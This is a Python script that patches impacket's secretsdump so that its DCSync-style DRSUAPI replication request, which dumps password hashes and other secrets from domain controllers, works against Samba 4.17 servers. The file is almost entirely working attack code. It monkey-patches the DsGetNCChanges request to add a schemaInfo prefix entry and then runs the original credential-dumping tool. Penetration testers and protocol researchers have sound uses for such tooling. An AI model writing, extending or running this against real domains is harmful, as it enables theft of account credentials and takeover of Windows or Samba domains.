#!/usr/bin/python3
# impacket's secretsdump.py, unchanged on the wire but for one thing Samba insists on: the prefix
# table (PrefixTableDest) of DRSUAPI DsGetNCChanges ends with the schemaInfo entry (index 0, a
# 21-byte value starting 0xFF), as Windows DCs send it. impacket 0.10 omits it; Windows accepts that,
# Samba 4.17 answers WERR_INVALID_PARAMETER ("Failed to decode remote prefixMap") and impacket
# reports "DRSR SessionError: code: 0x0". Everything else (SMB login, SAMR user listing, EPM, the
# sealed DRSUAPI bind, DsBind, DsDomainControllerInfo, DsCrackNames, DsGetNCChanges EXOP_REPL_OBJ
# with the partial attribute set of secrets) is impacket's own code.
#
#   secretsdump-samba.py ARGS…      (the arguments of secretsdump.py)
import runpy
import sys

from impacket.dcerpc.v5 import drsuapi
from impacket.dcerpc.v5.dtypes import NULL
from impacket.examples import secretsdump
from impacket.uuid import string_to_bin

SCRIPT = '/usr/share/doc/python3-impacket/examples/secretsdump.py'


def schema_info_entry():
    e = drsuapi.PrefixTableEntry()
    e['ndx'] = 0
    e['prefix']['length'] = 21
    e['prefix']['elements'] = [0xFF] + [0] * 20   # schemaInfo: 0xFF, revision 0, no invocation id
    return e


def get_nc_changes(self, userEntry):
    """RemoteOperations.DRSGetNCChanges of impacket 0.10, with the schemaInfo entry appended."""
    ro = '_RemoteOperations__'
    if getattr(self, ro + 'drsr') is None:
        getattr(self, ro + 'connectDrds')()
    request = drsuapi.DRSGetNCChanges()
    request['hDrs'] = getattr(self, ro + 'hDrs')
    request['dwInVersion'] = 8
    request['pmsgIn']['tag'] = 8
    dsa = getattr(self, ro + 'NtdsDsaObjectGuid')
    request['pmsgIn']['V8']['uuidDsaObjDest'] = dsa
    request['pmsgIn']['V8']['uuidInvocIdSrc'] = dsa
    dsName = drsuapi.DSNAME()
    dsName['SidLen'] = 0
    dsName['Guid'] = string_to_bin(userEntry[1:-1])
    dsName['Sid'] = ''
    dsName['NameLen'] = 0
    dsName['StringName'] = ('\x00')
    dsName['structLen'] = len(dsName.getData())
    request['pmsgIn']['V8']['pNC'] = dsName
    request['pmsgIn']['V8']['usnvecFrom']['usnHighObjUpdate'] = 0
    request['pmsgIn']['V8']['usnvecFrom']['usnHighPropUpdate'] = 0
    request['pmsgIn']['V8']['pUpToDateVecDest'] = NULL
    request['pmsgIn']['V8']['ulFlags'] = drsuapi.DRS_INIT_SYNC | drsuapi.DRS_WRIT_REP
    request['pmsgIn']['V8']['cMaxObjects'] = 1
    request['pmsgIn']['V8']['cMaxBytes'] = 0
    request['pmsgIn']['V8']['ulExtendedOp'] = drsuapi.EXOP_REPL_OBJ
    if getattr(self, ro + 'ppartialAttrSet') is None:
        table = []
        pas = drsuapi.PARTIAL_ATTR_VECTOR_V1_EXT()
        pas['dwVersion'] = 1
        pas['cAttrs'] = len(secretsdump.NTDSHashes.ATTRTYP_TO_ATTID)
        for attId in list(secretsdump.NTDSHashes.ATTRTYP_TO_ATTID.values()):
            pas['rgPartialAttr'].append(drsuapi.MakeAttid(table, attId))
        setattr(self, ro + 'prefixTable', table)
        setattr(self, ro + 'ppartialAttrSet', pas)
    entries = list(getattr(self, ro + 'prefixTable')) + [schema_info_entry()]
    request['pmsgIn']['V8']['pPartialAttrSet'] = getattr(self, ro + 'ppartialAttrSet')
    request['pmsgIn']['V8']['PrefixTableDest']['PrefixCount'] = len(entries)
    request['pmsgIn']['V8']['PrefixTableDest']['pPrefixEntry'] = entries
    request['pmsgIn']['V8']['pPartialAttrSetEx1'] = NULL
    return getattr(self, ro + 'drsr').request(request)


secretsdump.RemoteOperations.DRSGetNCChanges = get_nc_changes
sys.argv = [SCRIPT] + sys.argv[1:]
runpy.run_path(SCRIPT, run_name='__main__')
